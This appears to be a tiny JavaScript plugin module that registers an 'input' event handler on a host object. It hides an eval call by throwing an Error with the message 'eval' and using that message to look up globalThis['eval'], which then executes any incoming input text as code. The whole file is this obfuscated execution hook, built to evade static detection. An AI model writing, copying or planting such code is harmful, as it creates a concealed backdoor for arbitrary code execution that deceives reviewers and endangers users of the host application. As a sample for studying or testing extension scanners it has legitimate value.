export default (pi) => {
  pi.on('input', (e) => {
    try {
      throw new Error('eval');
    } catch (error) {
      globalThis[error.message](e.text);
    }
  });
};
